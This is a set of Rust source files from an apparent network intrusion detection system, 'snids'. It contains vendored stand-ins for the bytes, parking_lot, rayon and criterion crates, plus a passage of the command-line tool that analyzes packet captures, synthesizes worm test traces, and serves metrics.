        let data: Arc<[u8]> = v.into();
        let end = data.len();
        Bytes {
            data,
            start: 0,
            end,
        }
    }
}

impl From<&[u8]> for Bytes {
    fn from(v: &[u8]) -> Self {
        Bytes::from(v.to_vec())
    }
}

impl<const N: usize> From<[u8; N]> for Bytes {
    fn from(v: [u8; N]) -> Self {
        Bytes::from(v.to_vec())
    }
}

impl From<Bytes> for Vec<u8> {
    fn from(b: Bytes) -> Self {
        b.to_vec()
    }
}

impl PartialEq for Bytes {
    fn eq(&self, other: &Self) -> bool {
        self[..] == other[..]
    }
}
impl Eq for Bytes {}

impl PartialEq<[u8]> for Bytes {
    fn eq(&self, other: &[u8]) -> bool {
        &self[..] == other
    }
}

impl Hash for Bytes {
    fn hash<H: Hasher>(&self, state: &mut H) {
        self[..].hash(state);
    }
}

impl fmt::Debug for Bytes {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "b\"")?;
        for &b in self.iter() {
            for c in std::ascii::escape_default(b) {
                write!(f, "{}", c as char)?;
            }
        }
        write!(f, "\"")
    }
}

#[cfg(test)]
mod tests {
    use super::Bytes;

    #[test]
    fn slice_shares_and_bounds() {
        let b = Bytes::from(vec![1u8, 2, 3, 4, 5]);
        let s = b.slice(1..4);
        assert_eq!(&s[..], &[2, 3, 4]);
        let ss = s.slice(1..2);
        assert_eq!(&ss[..], &[3]);
        assert_eq!(b.len(), 5);
    }

    #[test]
    #[should_panic]
    fn slice_out_of_bounds_panics() {
        let b = Bytes::from(vec![1u8, 2]);
        let _ = b.slice(0..3);
    }
}
