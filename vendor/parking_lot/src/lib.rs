//! Hermetic stand-in for `parking_lot`.
//!
//! Wraps the std locks behind parking_lot's non-poisoning API: `read()`,
//! `write()` and `lock()` return guards directly, recovering from poison
//! (a panicked writer) instead of propagating it.

use std::sync::{self, MutexGuard, RwLockReadGuard, RwLockWriteGuard};

/// Reader-writer lock with parking_lot's infallible guard API.
#[derive(Debug, Default)]
pub struct RwLock<T: ?Sized> {
    inner: sync::RwLock<T>,
}

impl<T> RwLock<T> {
    pub fn new(value: T) -> Self {
        RwLock {
            inner: sync::RwLock::new(value),
        }
    }

    pub fn into_inner(self) -> T {
        self.inner.into_inner().unwrap_or_else(|e| e.into_inner())
    }
}

impl<T: ?Sized> RwLock<T> {
    pub fn read(&self) -> RwLockReadGuard<'_, T> {
        self.inner.read().unwrap_or_else(|e| e.into_inner())
    }

    pub fn write(&self) -> RwLockWriteGuard<'_, T> {
        self.inner.write().unwrap_or_else(|e| e.into_inner())
    }

    pub fn get_mut(&mut self) -> &mut T {
        self.inner.get_mut().unwrap_or_else(|e| e.into_inner())
    }
}

/// Mutex with parking_lot's infallible guard API.
#[derive(Debug, Default)]
pub struct Mutex<T: ?Sized> {
    inner: sync::Mutex<T>,
}

impl<T> Mutex<T> {
    pub fn new(value: T) -> Self {
        Mutex {
            inner: sync::Mutex::new(value),
        }
    }

    pub fn into_inner(self) -> T {
        self.inner.into_inner().unwrap_or_else(|e| e.into_inner())
    }
}

impl<T: ?Sized> Mutex<T> {
    pub fn lock(&self) -> MutexGuard<'_, T> {
        self.inner.lock().unwrap_or_else(|e| e.into_inner())
    }

    pub fn get_mut(&mut self) -> &mut T {
        self.inner.get_mut().unwrap_or_else(|e| e.into_inner())
    }
}

#[cfg(test)]
mod tests {
    use super::RwLock;

    #[test]
    fn read_write_roundtrip() {
        let l = RwLock::new(1u32);
        assert_eq!(*l.read(), 1);
        *l.write() += 1;
        assert_eq!(*l.read(), 2);
    }
}
