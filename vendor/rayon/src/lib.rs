//! Hermetic stand-in for `rayon`, now backed by a real executor.
//!
//! Presents the `par_iter()` combinator surface the pipeline uses
//! (`map`, `flat_map_iter`, `filter`, `reduce`, `collect`, `sum`, `count`,
//! `for_each`) and executes it on the [`snids_exec`] work-stealing pool —
//! the shared [`snids_exec::global`] pool, sized by `SNIDS_THREADS` or the
//! machine's available parallelism. Call sites are untouched relative to
//! the old sequential stand-in (and to real rayon): swapping the real
//! crate back in remains a one-line Cargo change.
//!
//! Unlike real rayon's lazy fused pipelines, each combinator here is one
//! eager parallel pass over materialized items. That costs an intermediate
//! `Vec` per stage but keeps the facade tiny while preserving the two
//! properties the pipeline relies on: results are ordered by input index,
//! and closures run concurrently across worker threads.

use snids_exec::global;

/// A materialized parallel iterator: the items to process, in input order.
/// Every adaptor dispatches one chunked pass on the global pool and
/// returns the results, again in input order.
pub struct ParIter<T: Send> {
    items: Vec<T>,
}

impl<T: Send> ParIter<T> {
    /// Parallel map, order-preserving.
    pub fn map<F, R>(self, f: F) -> ParIter<R>
    where
        F: Fn(T) -> R + Sync,
        R: Send,
    {
        ParIter {
            items: global().par_map_vec(self.items, f),
        }
    }

    /// Parallel filter, order-preserving.
    pub fn filter<F>(self, f: F) -> ParIter<T>
    where
        F: Fn(&T) -> bool + Sync,
        T: Sync,
    {
        let keep = global().par_map(&self.items, |item| f(item));
        ParIter {
            items: self
                .items
                .into_iter()
                .zip(keep)
                .filter_map(|(item, k)| k.then_some(item))
                .collect(),
        }
    }

    /// rayon's `flat_map_iter`: the mapped value is a serial iterator; the
    /// concatenation follows input order.
    pub fn flat_map_iter<F, J>(self, f: F) -> ParIter<J::Item>
    where
        F: Fn(T) -> J + Sync,
        J: IntoIterator,
        J::Item: Send,
    {
        let nested = global().par_map_vec(self.items, |item| {
            f(item).into_iter().collect::<Vec<J::Item>>()
        });
        ParIter {
            items: nested.into_iter().flatten().collect(),
        }
    }

    /// Fold with an identity constructor, like rayon's `reduce`. `op` must
    /// be associative: chunks are folded on the pool, then the per-chunk
    /// results are combined left-to-right in chunk order.
    pub fn reduce<ID, OP>(self, identity: ID, op: OP) -> T
    where
        ID: Fn() -> T + Sync,
        OP: Fn(T, T) -> T + Sync,
    {
        let pool = global();
        let chunk = self.items.len().div_ceil(pool.threads().max(1) * 4).max(1);
        let chunks: Vec<Vec<T>> = {
            let mut items = self.items;
            let mut out = Vec::new();
            while !items.is_empty() {
                let rest = items.split_off(items.len().min(chunk));
                out.push(items);
                items = rest;
            }
            out
        };
        let partials = pool.par_map_vec(chunks, |chunk| chunk.into_iter().fold(identity(), &op));
        partials.into_iter().fold(identity(), op)
    }

    /// Collect the (already ordered) results.
    pub fn collect<C: FromIterator<T>>(self) -> C {
        self.items.into_iter().collect()
    }

    /// Parallel sum.
    pub fn sum<S>(self) -> S
    where
        S: std::iter::Sum<T> + std::iter::Sum<S> + Send,
    {
        let pool = global();
        let chunk = self.items.len().div_ceil(pool.threads().max(1) * 4).max(1);
        let chunks: Vec<Vec<T>> = {
            let mut items = self.items;
            let mut out = Vec::new();
            while !items.is_empty() {
                let rest = items.split_off(items.len().min(chunk));
                out.push(items);
                items = rest;
            }
            out
        };
        pool.par_map_vec(chunks, |chunk| chunk.into_iter().sum::<S>())
            .into_iter()
            .sum()
    }

    /// Number of items.
    pub fn count(self) -> usize {
        self.items.len()
    }

    /// Parallel for-each (unordered side effects, like rayon).
    pub fn for_each<F>(self, f: F)
    where
        F: Fn(T) + Sync,
    {
        global().par_map_vec(self.items, f);
    }
}

/// `.par_iter()` on shared slices/vectors.
pub trait IntoParallelRefIterator<'data> {
    /// Reference type yielded per element.
    type Item: Send + 'data;
    /// Borrow the collection into a parallel iterator.
    fn par_iter(&'data self) -> ParIter<Self::Item>;
}

impl<'data, T: 'data + Sync> IntoParallelRefIterator<'data> for [T] {
    type Item = &'data T;
    fn par_iter(&'data self) -> ParIter<&'data T> {
        ParIter {
            items: self.iter().collect(),
        }
    }
}

impl<'data, T: 'data + Sync> IntoParallelRefIterator<'data> for Vec<T> {
    type Item = &'data T;
    fn par_iter(&'data self) -> ParIter<&'data T> {
        ParIter {
            items: self.iter().collect(),
        }
    }
}

/// `.into_par_iter()` on owned collections.
pub trait IntoParallelIterator {
    /// Element type.
    type Item: Send;
    /// Consume the collection into a parallel iterator.
    fn into_par_iter(self) -> ParIter<Self::Item>;
}

impl<T: Send> IntoParallelIterator for Vec<T> {
    type Item = T;
    fn into_par_iter(self) -> ParIter<T> {
        ParIter { items: self }
    }
}

pub mod prelude {
    pub use crate::{IntoParallelIterator, IntoParallelRefIterator, ParIter};
}

#[cfg(test)]
mod tests {
    use super::prelude::*;

    #[test]
    fn combinators_match_serial() {
        let v = vec![1u64, 2, 3, 4];
        let doubled: Vec<u64> = v.par_iter().map(|x| x * 2).collect();
        assert_eq!(doubled, vec![2, 4, 6, 8]);
        let pairs = v
            .par_iter()
            .map(|x| (*x, x * x))
            .reduce(|| (0, 0), |a, b| (a.0 + b.0, a.1 + b.1));
        assert_eq!(pairs, (10, 30));
        let flat: Vec<u64> = v.par_iter().flat_map_iter(|x| vec![*x; 2]).collect();
        assert_eq!(flat.len(), 8);
    }

    #[test]
    fn ordering_is_deterministic_at_scale() {
        let v: Vec<u64> = (0..10_000).collect();
        let mapped: Vec<u64> = v.par_iter().map(|x| x + 1).collect();
        assert_eq!(mapped, (1..=10_000).collect::<Vec<u64>>());
        let filtered: Vec<u64> = v
            .into_par_iter()
            .filter(|x| x % 3 == 0)
            .map(|x| x / 3)
            .collect();
        assert_eq!(filtered, (0..3334).collect::<Vec<u64>>());
    }

    #[test]
    fn sum_count_for_each() {
        let v: Vec<u64> = (0..1000).collect();
        let s: u64 = v.par_iter().map(|x| *x).sum();
        assert_eq!(s, 499_500);
        assert_eq!(v.par_iter().filter(|x| **x < 10).count(), 10);
        let total = std::sync::atomic::AtomicU64::new(0);
        v.par_iter().for_each(|x| {
            total.fetch_add(*x, std::sync::atomic::Ordering::Relaxed);
        });
        assert_eq!(total.load(std::sync::atomic::Ordering::Relaxed), 499_500);
    }
}
