//! Hermetic stand-in for `rayon`.
//!
//! Presents the `par_iter()` combinator surface the pipeline uses
//! (`map`, `flat_map_iter`, `filter`, `reduce`, `collect`, `sum`, `count`)
//! but executes sequentially: the offline container cannot fetch the real
//! crate, and the pipeline's correctness tests only require that the
//! parallel path computes the same answer as the sequential one. Swapping
//! the real rayon back in is a one-line Cargo change; call sites are
//! untouched.

/// Sequential executor behind the parallel-iterator facade.
pub struct ParIter<I> {
    inner: I,
}

impl<I: Iterator> ParIter<I> {
    pub fn map<F, R>(self, f: F) -> ParIter<std::iter::Map<I, F>>
    where
        F: FnMut(I::Item) -> R,
    {
        ParIter {
            inner: self.inner.map(f),
        }
    }

    pub fn filter<F>(self, f: F) -> ParIter<std::iter::Filter<I, F>>
    where
        F: FnMut(&I::Item) -> bool,
    {
        ParIter {
            inner: self.inner.filter(f),
        }
    }

    /// rayon's `flat_map_iter`: the mapped value is a serial iterator.
    pub fn flat_map_iter<F, J>(self, f: F) -> ParIter<std::iter::FlatMap<I, J, F>>
    where
        F: FnMut(I::Item) -> J,
        J: IntoIterator,
    {
        ParIter {
            inner: self.inner.flat_map(f),
        }
    }

    /// Fold with an identity constructor, like rayon's `reduce`.
    pub fn reduce<ID, OP>(self, identity: ID, op: OP) -> I::Item
    where
        ID: Fn() -> I::Item,
        OP: Fn(I::Item, I::Item) -> I::Item,
    {
        self.inner.fold(identity(), op)
    }

    pub fn collect<C: FromIterator<I::Item>>(self) -> C {
        self.inner.collect()
    }

    pub fn sum<S: std::iter::Sum<I::Item>>(self) -> S {
        self.inner.sum()
    }

    pub fn count(self) -> usize {
        self.inner.count()
    }

    pub fn for_each<F: FnMut(I::Item)>(self, f: F) {
        self.inner.for_each(f)
    }
}

/// `.par_iter()` on shared slices/vectors.
pub trait IntoParallelRefIterator<'data> {
    type Item: 'data;
    type Iter: Iterator<Item = Self::Item>;
    fn par_iter(&'data self) -> ParIter<Self::Iter>;
}

impl<'data, T: 'data + Sync> IntoParallelRefIterator<'data> for [T] {
    type Item = &'data T;
    type Iter = std::slice::Iter<'data, T>;
    fn par_iter(&'data self) -> ParIter<Self::Iter> {
        ParIter { inner: self.iter() }
    }
}

impl<'data, T: 'data + Sync> IntoParallelRefIterator<'data> for Vec<T> {
    type Item = &'data T;
    type Iter = std::slice::Iter<'data, T>;
    fn par_iter(&'data self) -> ParIter<Self::Iter> {
        ParIter { inner: self.iter() }
    }
}

/// `.into_par_iter()` on owned collections.
pub trait IntoParallelIterator {
    type Item;
    type Iter: Iterator<Item = Self::Item>;
    fn into_par_iter(self) -> ParIter<Self::Iter>;
}

impl<T: Send> IntoParallelIterator for Vec<T> {
    type Item = T;
    type Iter = std::vec::IntoIter<T>;
    fn into_par_iter(self) -> ParIter<Self::Iter> {
        ParIter {
            inner: self.into_iter(),
        }
    }
}

pub mod prelude {
    pub use crate::{IntoParallelIterator, IntoParallelRefIterator, ParIter};
}

#[cfg(test)]
mod tests {
    use super::prelude::*;

    #[test]
    fn combinators_match_serial() {
        let v = vec![1u64, 2, 3, 4];
        let doubled: Vec<u64> = v.par_iter().map(|x| x * 2).collect();
        assert_eq!(doubled, vec![2, 4, 6, 8]);
        let pairs = v
            .par_iter()
            .map(|x| (*x, x * x))
            .reduce(|| (0, 0), |a, b| (a.0 + b.0, a.1 + b.1));
        assert_eq!(pairs, (10, 30));
        let flat: Vec<u64> = v.par_iter().flat_map_iter(|x| vec![*x; 2]).collect();
        assert_eq!(flat.len(), 8);
    }
}
