//! Hermetic stand-in for `criterion`.
//!
//! Keeps the `criterion_group!`/`criterion_main!` bench files compiling and
//! runnable offline. Each benchmark body is executed a handful of times and
//! the best wall-clock time is printed — useful for coarse comparisons,
//! with none of criterion's statistics.

use std::fmt;
use std::time::{Duration, Instant};

/// How many times each benchmark body runs (best-of is reported).
const RUNS: u32 = 3;

pub fn black_box<T>(x: T) -> T {
    std::hint::black_box(x)
}

/// Declared throughput, echoed alongside timings.
#[derive(Debug, Clone, Copy)]
pub enum Throughput {
    Bytes(u64),
    Elements(u64),
}

/// Benchmark identifier, e.g. `BenchmarkId::from_parameter("shell-tcp")`.
#[derive(Debug, Clone)]
pub struct BenchmarkId {
    id: String,
}

impl BenchmarkId {
    pub fn from_parameter<D: fmt::Display>(param: D) -> Self {
        BenchmarkId {
            id: param.to_string(),
        }
    }

    pub fn new<D: fmt::Display, P: fmt::Display>(name: D, param: P) -> Self {
        BenchmarkId {
            id: format!("{name}/{param}"),
        }
    }
}

impl fmt::Display for BenchmarkId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.id)
    }
}

/// Timer handed to benchmark bodies.
pub struct Bencher {
    best: Option<Duration>,
}

impl Bencher {
    pub fn iter<O, F: FnMut() -> O>(&mut self, mut body: F) {
        for _ in 0..RUNS {
            let t0 = Instant::now();
            black_box(body());
            let dt = t0.elapsed();
            if self.best.map(|b| dt < b).unwrap_or(true) {
                self.best = Some(dt);
            }
        }
    }
}

/// A named group of benchmarks.
pub struct BenchmarkGroup<'a> {
    name: String,
    throughput: Option<Throughput>,
    _criterion: &'a mut Criterion,
}

impl BenchmarkGroup<'_> {
    pub fn throughput(&mut self, t: Throughput) -> &mut Self {
        self.throughput = Some(t);
        self
    }

    pub fn sample_size(&mut self, _n: usize) -> &mut Self {
        self
    }

    pub fn bench_function<F>(&mut self, id: impl fmt::Display, mut body: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let mut b = Bencher { best: None };
        body(&mut b);
        self.report(&id.to_string(), b.best);
        self
    }

    pub fn bench_with_input<I: ?Sized, F>(
        &mut self,
        id: BenchmarkId,
        input: &I,
        mut body: F,
    ) -> &mut Self
    where
        F: FnMut(&mut Bencher, &I),
    {
        let mut b = Bencher { best: None };
        body(&mut b, input);
        self.report(&id.to_string(), b.best);
        self
    }

    pub fn finish(self) {}

    fn report(&self, id: &str, best: Option<Duration>) {
        let Some(best) = best else { return };
        let rate = match self.throughput {
            Some(Throughput::Bytes(n)) => {
                let mibps = n as f64 / best.as_secs_f64() / (1024.0 * 1024.0);
                format!("  {mibps:.1} MiB/s")
            }
            Some(Throughput::Elements(n)) => {
                let eps = n as f64 / best.as_secs_f64();
                format!("  {eps:.0} elem/s")
            }
            None => String::new(),
        };
        println!("bench {}/{}: {:?}{}", self.name, id, best, rate);
    }
}

/// Entry point mirroring criterion's driver type.
#[derive(Default)]
pub struct Criterion {}

impl Criterion {
    pub fn benchmark_group(&mut self, name: impl Into<String>) -> BenchmarkGroup<'_> {
        BenchmarkGroup {
            name: name.into(),
            throughput: None,
            _criterion: self,
        }
    }

    pub fn bench_function<F>(&mut self, id: &str, body: F) -> &mut Self
    where
        F: FnMut(&mut Bencher),
    {
        let name = id.to_string();
        let mut group = self.benchmark_group(name);
        group.bench_function("", body);
        self
    }
}

#[macro_export]
macro_rules! criterion_group {
    ($name:ident, $($target:path),+ $(,)?) => {
        fn $name() {
            let mut criterion = $crate::Criterion::default();
            $($target(&mut criterion);)+
        }
    };
}

#[macro_export]
macro_rules! criterion_main {
    ($($group:path),+ $(,)?) => {
        fn main() {
            $($group();)+
        }
    };
}
