//! `snids` — the command-line NIDS.
//!
//! ```sh
//! # analyze a capture
//! snids analyze trace.pcap --honeypot 192.168.1.200 --dark 10.99.0.0/16
//!
//! # analyze every payload regardless of classification (§5.4 mode)
//! snids analyze trace.pcap --no-classify
//!
//! # add operator-authored templates (see snids::semantic::dsl)
//! snids analyze trace.pcap --templates extra.tmpl
//!
//! # synthesize a ground-truth capture to play with
//! snids synth out.pcap --packets 5000 --crii 3
//!
//! # disassemble a binary frame and run the semantic analyzer over it
//! snids disasm payload.bin
//!
//! # measure flow-analysis throughput on a synthesized polymorphic storm
//! snids bench --flows 144 --repeats 3
//!
//! # sweep TCP desync fault rates across overlap policies
//! snids bench --desync --flows 64
//!
//! # sweep state-exhaustion flood sizes: governor vs the seed engine
//! snids bench --overload --budget 256k
//!
//! # measure the pre-filter fast path: lane throughput + detection parity
//! snids bench --prefilter
//!
//! # replay with the pre-filter gate disabled (analyze everything)
//! snids analyze trace.pcap --prefilter off
//!
//! # cap buffered stream/fragment state at a global byte budget
//! snids analyze trace.pcap --memory-budget 64m
//!
//! # reassemble like the protected hosts' stacks
//! snids analyze trace.pcap --overlap-policy linux-like
//!
//! # shard the front half (prefilter + reassembly) across 4 threads;
//! # alerts are byte-identical to --shards 1 (the default)
//! snids analyze trace.pcap --shards 4
//!
//! # sweep shard counts under a sustained overload: pkts/s + p99 stalls
//! snids bench --shard --flood 1024
//!
//! # control the dataflow second pass (slice matching + alternative
//! # stream views on desynced flows); near-miss is the default
//! snids analyze trace.pcap --dataflow on
//!
//! # print per-stage metrics and flight-recorder dumps after the run
//! snids analyze trace.pcap --metrics
//!
//! # serve metrics over HTTP for a scraper, live from replay start
//! # (also /json, /healthz, /quit; --worker-label stamps the series)
//! snids analyze trace.pcap --metrics-listen 127.0.0.1:9100 --worker-label w0
//!
//! # split a worm+flood corpus across 3 worker processes, scrape and
//! # federate their live metrics, gate on fleet conservation + alert
//! # union byte-identity vs a single-process run
//! snids fleet --workers 3
//! ```

use rand::rngs::StdRng;
use rand::SeedableRng;
use snids::core::{NidsConfig, ShardedNids};
use snids::gen::chaos::{chaos_pcap, ChaosConfig};
use snids::gen::traces::{codered_capture, AddressPlan};
use snids::packet::{PcapReader, PcapWriter};
use snids::semantic::Analyzer;
use snids::x86::{fmt, linear_sweep_budgeted, SweepBudget};
use std::net::Ipv4Addr;
use std::process::ExitCode;

fn usage() -> ExitCode {
    eprintln!(
        "usage:\n  snids analyze <pcap> [--honeypot IP]... [--dark NET/PREFIX]... [--templates FILE]... [--overlap-policy first-wins|last-wins|bsd-like|linux-like] [--dataflow on|off|near-miss] [--prefilter on|off] [--memory-budget BYTES[k|m|g]] [--shards N] [--no-classify] [--json] [--stats] [--metrics] [--metrics-listen ADDR] [--worker-label LABEL]\n  snids synth <pcap> [--packets N] [--crii N] [--seed N] [--chaos RATE] [--flood N]\n  snids disasm <file>\n  snids bench [--desync|--overload|--prefilter|--shard] [--flows N] [--flood N] [--shards N,N,..] [--seed N] [--repeats N] [--budget BYTES[k|m|g]] [--out FILE]\n  snids fleet [--workers N] [--packets N] [--crii N] [--flood N] [--seed N] [--out FILE]"
    );
    ExitCode::from(2)
}

fn main() -> ExitCode {
    // Resolve SNIDS_THREADS up front so an unusable value warns on stderr
    // even for runs that never construct the (lazy) global pool.
    snids::exec::default_threads();
    let args: Vec<String> = std::env::args().skip(1).collect();
    match args.first().map(String::as_str) {
        Some("analyze") => analyze(&args[1..]),
        Some("synth") => synth(&args[1..]),
        Some("disasm") => disasm(&args[1..]),
        Some("bench") => bench(&args[1..]),
        Some("fleet") => fleet(&args[1..]),
        _ => usage(),
    }
}

fn flag_values<'a>(args: &'a [String], name: &str) -> Vec<&'a str> {
    args.windows(2)
        .filter(|w| w[0] == name)
        .map(|w| w[1].as_str())
        .collect()
}

fn flag_value_u64(args: &[String], name: &str, default: u64) -> u64 {
    flag_values(args, name)
        .first()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

fn flag_value_f64(args: &[String], name: &str, default: f64) -> f64 {
    flag_values(args, name)
        .first()
        .and_then(|v| v.parse().ok())
        .unwrap_or(default)
}

/// Parse a byte count with an optional binary suffix: `65536`, `512k`,
/// `64M`, `1g` (case-insensitive).
fn parse_bytes(s: &str) -> Option<u64> {
    let s = s.trim();
    let (digits, shift) = match s.as_bytes().last()? {
        b'k' | b'K' => (&s[..s.len() - 1], 10),
        b'm' | b'M' => (&s[..s.len() - 1], 20),
        b'g' | b'G' => (&s[..s.len() - 1], 30),
        _ => (s, 0),
    };
    digits
        .parse::<u64>()
        .ok()
        .and_then(|n| n.checked_shl(shift).filter(|v| v >> shift == n))
}

fn analyze(args: &[String]) -> ExitCode {
    let Some(path) = args.first().filter(|a| !a.starts_with("--")) else {
        return usage();
    };
    let no_classify = args.iter().any(|a| a == "--no-classify");
    let json = args.iter().any(|a| a == "--json");
    let stats_report = args.iter().any(|a| a == "--stats");
    let metrics = args.iter().any(|a| a == "--metrics");
    let metrics_listen = flag_values(args, "--metrics-listen").first().copied();
    // Validate the listen address at parse time: a typo should fail with a
    // clear message (and a counted warning) before any work happens, not as
    // an opaque bind error mid-setup.
    if let Some(addr) = metrics_listen {
        use std::net::ToSocketAddrs;
        if addr
            .to_socket_addrs()
            .map(|mut it| it.next())
            .ok()
            .flatten()
            .is_none()
        {
            snids::obs::warn(&format!(
                "bad --metrics-listen `{addr}` (want HOST:PORT, e.g. 127.0.0.1:9100)"
            ));
            return ExitCode::from(2);
        }
    }
    let worker_label = flag_values(args, "--worker-label").first().copied();

    let mut config = NidsConfig {
        classification_enabled: !no_classify,
        ..NidsConfig::default()
    };
    // Either metrics flag implies observability, whatever SNIDS_OBS says.
    if metrics || metrics_listen.is_some() {
        config.observability = true;
    }
    for path in flag_values(args, "--templates") {
        let text = match std::fs::read_to_string(path) {
            Ok(t) => t,
            Err(e) => {
                eprintln!("cannot read template file {path}: {e}");
                return ExitCode::from(2);
            }
        };
        match snids::semantic::parse_templates(&text) {
            Ok(ts) => {
                eprintln!("loaded {} template(s) from {path}", ts.len());
                config.templates.extend(ts);
            }
            Err(e) => {
                eprintln!("{path}: {e}");
                return ExitCode::from(2);
            }
        }
    }
    for hp in flag_values(args, "--honeypot") {
        match hp.parse::<Ipv4Addr>() {
            Ok(ip) => config.honeypots.push(ip),
            Err(_) => {
                eprintln!("bad --honeypot address: {hp}");
                return ExitCode::from(2);
            }
        }
    }
    if let Some(name) = flag_values(args, "--overlap-policy").first() {
        match snids::flow::OverlapPolicy::parse(name) {
            Some(policy) => config.flow_table.overlap_policy = policy,
            None => {
                eprintln!(
                    "bad --overlap-policy `{name}` (want first-wins, last-wins, bsd-like or linux-like)"
                );
                return ExitCode::from(2);
            }
        }
    }
    if let Some(name) = flag_values(args, "--dataflow").first() {
        match snids::semantic::DataflowMode::parse(name) {
            Some(mode) => config.dataflow = mode,
            None => {
                eprintln!("bad --dataflow `{name}` (want on, off or near-miss)");
                return ExitCode::from(2);
            }
        }
    }
    if let Some(mode) = flag_values(args, "--prefilter").first() {
        match *mode {
            "on" => config.prefilter = true,
            "off" => config.prefilter = false,
            other => {
                eprintln!("bad --prefilter `{other}` (want on or off)");
                return ExitCode::from(2);
            }
        }
    }
    if let Some(spec) = flag_values(args, "--memory-budget").first() {
        match parse_bytes(spec) {
            Some(bytes) => config.memory_budget = bytes,
            None => {
                eprintln!("bad --memory-budget `{spec}` (want BYTES with optional k/m/g suffix)");
                return ExitCode::from(2);
            }
        }
    }
    if let Some(spec) = flag_values(args, "--shards").first() {
        match spec.parse::<usize>() {
            Ok(n) if n >= 1 => config.shards = n,
            _ => {
                eprintln!("bad --shards `{spec}` (want an integer >= 1)");
                return ExitCode::from(2);
            }
        }
    }
    for dn in flag_values(args, "--dark") {
        let parsed = dn.split_once('/').and_then(|(net, prefix)| {
            Some((net.parse::<Ipv4Addr>().ok()?, prefix.parse::<u8>().ok()?))
        });
        match parsed {
            Some((net, prefix)) => config.dark_nets.push((net, prefix)),
            None => {
                eprintln!("bad --dark range (want NET/PREFIX): {dn}");
                return ExitCode::from(2);
            }
        }
    }

    let mut reader = match PcapReader::open(path) {
        Ok(r) => r,
        Err(e) => {
            eprintln!("cannot open {path}: {e}");
            return ExitCode::FAILURE;
        }
    };
    // decode_all is total over hostile input: damage is attributed in the
    // reader's stats rather than aborting the run.
    let packets = reader.decode_all().unwrap_or_default();

    // ShardedNids with shards=1 (the default) delegates to the plain
    // sequential pipeline — identical code path, identical output.
    let mut nids = ShardedNids::new(config);
    if let Some(label) = worker_label {
        // Instance label: federated expositions tag this worker's series
        // with `worker="LABEL"` so fleet pages stay attributable.
        nids.obs().set_worker(Some(label));
    }

    // Live exposition: bind and serve *before* the replay starts, from a
    // cloned (Arc-backed) registry handle, so a scraper watches counters,
    // watermark transitions and budget gauges move mid-run. The thread
    // keeps serving the final numbers after the run until a `GET /quit`
    // (or ctrl-c) releases it.
    let server_thread = match metrics_listen {
        Some(addr) => {
            let server = match snids::obs::MetricsServer::bind(addr) {
                Ok(s) => s,
                Err(e) => {
                    eprintln!("cannot bind --metrics-listen {addr}: {e}");
                    return ExitCode::FAILURE;
                }
            };
            if let Ok(local) = server.local_addr() {
                eprintln!(
                    "serving live metrics on http://{local}/metrics (also /json, /healthz; GET /quit or ctrl-c to stop)"
                );
            }
            let obs = nids.obs().clone();
            let started = std::time::Instant::now();
            Some(std::thread::spawn(move || {
                let _ = server.serve_until_quit(
                    |path| {
                        let snap = obs.snapshot();
                        if path == "/healthz" {
                            let find = |name: &str| {
                                snap.named
                                    .iter()
                                    .find(|(n, _)| n == name)
                                    .map(|(_, v)| *v)
                                    .unwrap_or(0)
                            };
                            (
                                "application/json".to_string(),
                                format!(
                                    "{{\"status\":\"ok\",\"uptime_seconds\":{},\"pressure\":{},\"packets\":{}}}",
                                    started.elapsed().as_secs(),
                                    find("snids_budget_pressure_level"),
                                    find("snids_packets_total"),
                                ),
                            )
                        } else if path.ends_with("json") {
                            (
                                "application/json".to_string(),
                                snids::obs::expo::render_json(&snap),
                            )
                        } else {
                            (
                                "text/plain; version=0.0.4".to_string(),
                                snids::obs::expo::render_text(&snap),
                            )
                        }
                    },
                    "/quit",
                );
            }))
        }
        None => None,
    };

    let alerts = nids.process_capture(&packets);
    nids.absorb_read_stats(&reader.read_stats());
    if server_thread.is_some() {
        // Mirror the final ledger totals into the registry *before* any
        // result line hits stdout: a federator treats the result line as
        // its scrape barrier, so the registry must already be settled.
        let _ = nids.obs_snapshot();
    }

    if json {
        let alerts_json: Vec<String> = alerts.iter().map(|a| a.to_json()).collect();
        println!(
            "{{\"stats\":{},\"alerts\":[{}]}}",
            nids.stats().to_json(),
            alerts_json.join(",")
        );
    } else {
        eprintln!("{}", nids.stats().summary());
        if stats_report {
            eprint!("{}", nids.stats().drop_report());
        }
        for a in &alerts {
            println!("{}", a.render());
        }
        if alerts.is_empty() {
            eprintln!("no alerts");
        }
    }
    if metrics {
        // Prometheus text page then the deterministic JSON snapshot, both
        // on stdout; flight-recorder dumps go to stderr with the rest of
        // the diagnostics.
        print!("{}", nids.metrics_page());
        println!("{}", nids.metrics_json());
        for dump in nids.flight_dumps() {
            eprintln!("{dump}");
        }
    }
    if let Some(handle) = server_thread {
        // Keep serving the settled numbers until /quit or ctrl-c.
        let _ = handle.join();
    }
    if alerts.is_empty() {
        ExitCode::SUCCESS
    } else {
        ExitCode::FAILURE
    }
}

fn synth(args: &[String]) -> ExitCode {
    let Some(path) = args.first().filter(|a| !a.starts_with("--")) else {
        return usage();
    };
    let packets_n = flag_value_u64(args, "--packets", 5_000) as usize;
    let crii = flag_value_u64(args, "--crii", 2) as usize;
    let seed = flag_value_u64(args, "--seed", 2006);
    let chaos_rate = flag_value_f64(args, "--chaos", 0.0);
    let flood = flag_value_u64(args, "--flood", 0) as usize;

    let plan = AddressPlan::default();
    let mut rng = StdRng::seed_from_u64(seed);
    let (packets, truth) = codered_capture(&mut rng, &plan, packets_n, crii);

    if chaos_rate > 0.0 || flood > 0 {
        // Deterministic fault injection: same --seed, same corrupted bytes.
        let cfg = ChaosConfig {
            flood_flows: flood,
            ..ChaosConfig::with_rate(chaos_rate)
        };
        let (bytes, log) = chaos_pcap(&mut rng, &packets, &cfg);
        if let Err(e) = std::fs::write(path, &bytes) {
            eprintln!("cannot write {path}: {e}");
            return ExitCode::FAILURE;
        }
        eprintln!(
            "wrote {} packets ({} Code Red II instances from {:?}) to {path}",
            packets.len(),
            truth.crii_instances,
            truth.crii_sources
        );
        eprintln!(
            "chaos: {} protocol fault(s), {} byte fault(s), {} flood packet(s), {} source(s) touched",
            log.protocol_faults,
            log.byte_faults,
            log.flood_packets,
            log.touched_sources.len()
        );
        eprintln!(
            "analyze with: snids analyze {path} --honeypot {} --dark {}/16 --stats",
            plan.honeypots[0], plan.dark_net
        );
        return ExitCode::SUCCESS;
